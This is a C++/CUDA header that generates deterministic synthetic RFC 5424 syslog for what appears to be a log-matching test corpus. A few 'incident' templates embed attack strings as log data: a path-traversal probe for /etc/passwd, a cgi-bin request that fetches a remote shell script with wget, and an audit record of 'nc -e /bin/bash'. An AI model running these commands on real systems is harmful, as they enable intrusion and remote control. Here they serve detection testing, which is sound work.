// corpus.h -- deterministic, block-parallel synthetic RFC 5424 syslog.
//
// The reference ships only an MT19937 printable-noise generator
// (loggen.hpp:44-57, strictly sequential); BASELINE.json asks for RFC 5424
// syslog, so this generator is new.  It is a pure function of
// (seed, block index): block b covers bytes [b*kBlock, (b+1)*kBlock) and is
// filled with whole syslog lines; the line that does not fit is cut and the
// block's last byte is always LF.  Any byte range can therefore be produced
// independently -- on the device (one thread per block) or on host threads --
// and both produce identical bytes (tests/test_corpus.py pins that).
//
// Line shape (RFC 5424 section 6):
//   <PRI>1 TIMESTAMP HOSTNAME APP-NAME PROCID MSGID STRUCTURED-DATA MSG LF
#pragma once
#include <stdint.h>

#if defined(__CUDACC__)
#define GLOP_HD __host__ __device__ __forceinline__
#else
#define GLOP_HD inline
#endif

namespace glop_corpus {

constexpr uint32_t kBlock = 4096;

// Templates: '|' separates entries.  The first byte of every entry is its
// weight class ('a'..'z', weight doubles per letter step downwards: 'a' is the
// rarest).  Placeholders in braces:
//   {T} timestamp  {H} host  {u} user  {i} IPv4  {p} port  {d} pid  {n} number
//   {x} hex word   {f} path  {s} session id
// '^' is not emitted; it marks where an incident message's own text begins.
// Entries whose weight class is <= 'c' are "incident" templates; their literal
// text seeds the vocabulary half of the synthetic rule sets.
#define GLOP_CORPUS_TEMPLATES                                                                  \
  "m<86>1 {T} {H} CRON {d} - - pam_unix(cron:session): session opened for user {u}(uid={n}) by (uid=0)|" \
  "m<78>1 {T} {H} CRON {d} - - ({u}) CMD (/usr/local/bin/backup.sh --incremental --target {f})|"         \
  "l<30>1 {T} {H} systemd 1 - - Started Session {s} of User {u}.|"                                      \
  "l<30>1 {T} {H} systemd 1 - - Starting Daily apt download activities...|"                             \
  "k<30>1 {T} {H} systemd-logind {d} - - New session {s} of user {u}.|"                                 \
  "m<190>1 {T} {H} nginx {d} access [meta sequenceId=\"{n}\"] {i} - - \"GET {f} HTTP/1.1\" 200 {n} \"-\" \"Mozilla/5.0 (X11; Linux x86_64)\"|" \
  "l<190>1 {T} {H} nginx {d} access - {i} - - \"POST /api/v1/session HTTP/2.0\" 201 {n} \"-\" \"okhttp/4.12.0\"|" \
  "k<38>1 {T} {H} sshd {d} - - Accepted publickey for {u} from {i} port {p} ssh2: ED25519 SHA256:{x}|"   \
  "k<86>1 {T} {H} sshd {d} - - pam_unix(sshd:session): session opened for user {u}(uid={n}) by (uid=0)|" \
  "k<38>1 {T} {H} sshd {d} - - Received disconnect from {i} port {p}:11: disconnected by user|"          \
  "j<14>1 {T} {H} kernel - - - [{n}.{n}] IN=eth0 OUT= MAC={x} SRC={i} DST={i} LEN={n} TOS=0x00 PREC=0x00 TTL=64 ID={n} DF PROTO=TCP SPT={p} DPT=443 WINDOW=64240 RES=0x00 SYN URGP=0|" \
  "j<22>1 {T} {H} postfix/smtpd {d} - - connect from unknown[{i}]|"                                      \
  "j<166>1 {T} {H} dhclient {d} - - DHCPACK of {i} from {i} (xid=0x{x})|"                                \
  "i<29>1 {T} {H} dockerd {d} - [origin ip=\"{i}\"] level=info msg=\"Container {x} health status changed\"|" \
  "i<85>1 {T} {H} sudo {d} - - {u} : TTY=pts/{n} ; PWD=/home/{u} ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx|" \
  "c<38>1 {T} {H} sshd {d} - - ^Failed password for {u} from {i} port {p} ssh2|"                          \
  "c<38>1 {T} {H} sshd {d} - - ^Failed password for invalid user {u} from {i} port {p} ssh2|"             \
  "c<38>1 {T} {H} sshd {d} - - ^Invalid user {u} from {i} port {p}|"                                      \
  "b<38>1 {T} {H} sshd {d} - - ^Disconnecting authenticating user {u} {i} port {p}: Too many authentication failures [preauth]|" \
  "b<85>1 {T} {H} sudo {d} - - ^pam_unix(sudo:auth): authentication failure; logname={u} uid={n} euid=0 tty=/dev/pts/{n} ruser={u} rhost=  user={u}|" \
  "b<190>1 {T} {H} nginx {d} access - {i} - - ^\"GET /wp-login.php?redirect_to=..%2F..%2Fetc%2Fpasswd HTTP/1.1\" 404 {n} \"-\" \"sqlmap/1.7.2#stable\"|" \
  "b<190>1 {T} {H} nginx {d} access - {i} - - ^\"GET /cgi-bin/../../../../bin/sh?cmd=wget%20http://{i}/x.sh HTTP/1.0\" 400 {n} \"-\" \"-\"|" \
  "a<10>1 {T} {H} kernel - - - [{n}.{n}] {u}[{d}^]: segfault at {x} ip {x} sp {x} error 4 in libc.so.6[{x}+{x}]|" \
  "a<11>1 {T} {H} kernel - - - [{n}.{n}^] Out of memory: Killed process {d} ({u}) total-vm:{n}kB, anon-rss:{n}kB|" \
  "a<37>1 {T} {H} sshd {d} - - ^reverse mapping checking getaddrinfo for {u}.example.net [{i}] failed - POSSIBLE BREAK-IN ATTEMPT!|" \
  "a<36>1 {T} {H} auditd {d} - - ^type=EXECVE msg=audit({n}.{n}:{n}): argc=3 a0=\"nc\" a1=\"-e\" a2=\"/bin/bash\"|"

#define GLOP_CORPUS_USERS                                                                      \
  "root|admin|oracle|ubuntu|deploy|git|postgres|test|guest|www-data|" \
  "jenkins|backup|nagios|ftpuser|alice|bob|mallory|svc-ci|ansible|pi|"

#define GLOP_CORPUS_HOSTS                                                                      \
  "web-|db-|fw-edge-|k8s-node-|mail-|bastion-|cache-|lb-|"

#define GLOP_CORPUS_PATHS                                                                      \
  "/index.html|/api/v1/items|/static/app.js|/var/backups/db|/api/v1/users/me|"    \
  "/healthz|/metrics|/srv/data/export|/images/logo.png|/login|"

#if defined(__CUDACC__)
__device__ const char kTplDev[] = GLOP_CORPUS_TEMPLATES;
__device__ const char kUserDev[] = GLOP_CORPUS_USERS;
__device__ const char kHostDev[] = GLOP_CORPUS_HOSTS;
__device__ const char kPathDev[] = GLOP_CORPUS_PATHS;
#endif
static const char kTplHost[] = GLOP_CORPUS_TEMPLATES;
static const char kUserHost[] = GLOP_CORPUS_USERS;
static const char kHostHost[] = GLOP_CORPUS_HOSTS;
static const char kPathHost[] = GLOP_CORPUS_PATHS;

GLOP_HD const char* tpl_blob() {
#if defined(__CUDA_ARCH__)
  return kTplDev;
#else
  return kTplHost;
#endif
}
GLOP_HD const char* user_blob() {
#if defined(__CUDA_ARCH__)
  return kUserDev;
#else
  return kUserHost;
#endif
}
GLOP_HD const char* host_blob() {
#if defined(__CUDA_ARCH__)
  return kHostDev;
#else
  return kHostHost;
#endif
}
GLOP_HD const char* path_blob() {
#if defined(__CUDA_ARCH__)
  return kPathDev;
#else
  return kPathHost;
#endif
}

GLOP_HD uint64_t mix64(uint64_t x) {
  x ^= x >> 30;
  x *= 0xbf58476d1ce4e5b9ull;
  x ^= x >> 27;
  x *= 0x94d049bb133111ebull;
  x ^= x >> 31;
  return x;
}

struct Rng {
  uint64_t s;
  GLOP_HD uint32_t next() {
    s += 0x9e3779b97f4a7c15ull;
    return (uint32_t)(mix64(s) >> 32);
  }
  GLOP_HD uint32_t below(uint32_t n) {  // n >= 1; tiny modulo bias is fine
    return (uint32_t)(((uint64_t)next() * n) >> 32);
  }
};

// Windowed byte writer: only bytes whose block position lies in [lo, hi)
// are stored (at out[pos - lo]); everything else is generated and dropped.
struct Writer {
  uint8_t* out;
  uint32_t pos, lo, hi;
  GLOP_HD void put(uint8_t c) {
    if (pos >= lo && pos < hi) out[pos - lo] = c;
    ++pos;
  }
  GLOP_HD void dec(uint32_t v) {
    char buf[10];
    int k = 0;
    do {
      buf[k++] = (char)('0' + v % 10);
      v /= 10;
    } while (v);
    while (k) put((uint8_t)buf[--k]);
  }
  GLOP_HD void dec_w(uint32_t v, int width) {  // zero padded
    char buf[10];
    for (int k = width - 1; k >= 0; --k) {
      buf[k] = (char)('0' + v % 10);
      v /= 10;
    }
    for (int k = 0; k < width; ++k) put((uint8_t)buf[k]);
  }
  GLOP_HD void hex(uint32_t v, int digits) {
    for (int k = digits - 1; k >= 0; --k) {
      uint32_t d = (v >> (4 * k)) & 15;
      put((uint8_t)(d < 10 ? '0' + d : 'a' + d - 10));
    }
  }
  GLOP_HD void str(const char* s) {  // until '|' or NUL
    while (*s && *s != '|') put((uint8_t)*s++);
  }
};

// i-th '|'-separated entry of a blob.
GLOP_HD const char* blob_entry(const char* blob, uint32_t i) {
  const char* p = blob;
  while (i) {
    if (*p == '|') --i;
    ++p;
  }
  return p;
}
GLOP_HD uint32_t blob_count(const char* blob) {
  uint32_t n = 0;
  for (const char* p = blob; *p; ++p) n += (*p == '|');
  return n;
}

// Weight of a template class letter: 'a' = 1, 'b' = 2, ... doubling.
GLOP_HD uint32_t class_weight(char c) { return 1u << (uint32_t)(c - 'a'); }

GLOP_HD uint32_t total_weight() {
  const char* p = tpl_blob();
  uint32_t w = 0;
  bool start = true;
  for (; *p; ++p) {
    if (start) w += class_weight(*p);
    start = (*p == '|');
  }
  return w;
}

GLOP_HD const char* pick_template(uint32_t r, uint32_t total) {
  uint32_t x = r % total;
  const char* p = tpl_blob();
  for (;;) {
    uint32_t w = class_weight(*p);
    if (x < w) return p + 1;
    x -= w;
    while (*p != '|') ++p;
    ++p;
  }
}

GLOP_HD void put_ipv4(Writer& w, Rng& r) {
  uint32_t v = r.next();
  uint32_t a = (v & 3) == 0 ? 10 : ((v & 3) == 1 ? 192 : ((v & 3) == 2 ? 203 : 45 + (v >> 2) % 150));
  w.dec(a);
  w.put('.');
  w.dec((v >> 8) & 255);
  w.put('.');
  w.dec((v >> 16) & 255);
  w.put('.');
  w.dec(1 + ((v >> 24) % 254));
}

// Emits one line (including the trailing LF).
struct Counts {
  uint32_t total, n_users, n_hosts, n_paths;
};

GLOP_HD Counts counts() {
  return Counts{total_weight(), blob_count(user_blob()), blob_count(host_blob()),
                blob_count(path_blob())};
}

GLOP_HD void emit_line(Writer& w, Rng& r, uint64_t block, uint32_t line, const Counts& c) {
  const char* t = pick_template(r.next(), c.total);
  const uint32_t n_users = c.n_users, n_hosts = c.n_hosts, n_paths = c.n_paths;
  while (*t && *t != '|') {
    if (*t == '^') {
      ++t;
      continue;
    }
    if (*t != '{') {
      w.put((uint8_t)*t++);
      continue;
    }
    char f = t[1];
    t += 3;
    switch (f) {
      case 'T': {
        uint64_t sec = 7 * 3600 + block * 3 + line / 12;
        uint32_t day = 17 + (uint32_t)((sec / 86400) % 11);
        uint32_t s = (uint32_t)(sec % 86400);
        w.str("2026-10-");
        w.dec_w(day, 2);
        w.put('T');
        w.dec_w(s / 3600, 2);
        w.put(':');
        w.dec_w((s / 60) % 60, 2);
        w.put(':');
        w.dec_w(s % 60, 2);
        w.put('.');
        w.dec_w(r.below(1000000), 6);
        w.put('Z');
        break;
      }
      case 'H': {
        uint32_t v = r.next();
        w.str(blob_entry(host_blob(), v % n_hosts));
        w.dec_w((v >> 8) % 200, 3);
        break;
      }
      case 'u': {
        uint32_t v = r.next();
        if ((v & 7) == 7) {
          w.put('u');
          w.dec_w((v >> 3) % 10000, 4);
        } else {
          w.str(blob_entry(user_blob(), (v >> 3) % n_users));
        }
        break;
      }
      case 'i': put_ipv4(w, r); break;
      case 'p': w.dec(1024 + r.below(64512)); break;
      case 'd': w.dec(100 + r.below(65000)); break;
      case 'n': w.dec(r.below(100000)); break;
      case 's': w.dec(1 + r.below(40000)); break;
      case 'x': w.hex(r.next(), 8); break;
      case 'f': {
        uint32_t v = r.next();
        w.str(blob_entry(path_blob(), v % n_paths));
        if ((v >> 8) & 1) {
          w.put('/');
          w.dec((v >> 9) % 5000);
        }
        break;
      }
      default: w.put('?'); break;
    }
  }
  w.put('\n');
}

// Corpus byte x (for corpus `seed`) is byte x % kBlock of block x / kBlock;
// every block ends with LF.  gen_block_range writes bytes [lo, hi) of block
// `block` to out[0, hi - lo).  Lines are produced in order, so stopping at hi
// never changes earlier bytes.
GLOP_HD void gen_block_range(uint8_t* out, uint64_t seed, uint64_t block, uint32_t lo,
                             uint32_t hi) {
  Rng r;
  r.s = mix64(seed * 0x2545f4914f6cdd1dull ^ mix64(block + 0x51ed27ull));
  Writer w{out, 0, lo, hi};
  const Counts c = counts();
  uint32_t line = 0;
  while (w.pos < hi) emit_line(w, r, block, line++, c);
  if (hi == kBlock) out[kBlock - 1 - lo] = '\n';
}

GLOP_HD void gen_block(uint8_t* out, uint64_t seed, uint64_t block) {
  gen_block_range(out, seed, block, 0, kBlock);
}

}  // namespace glop_corpus
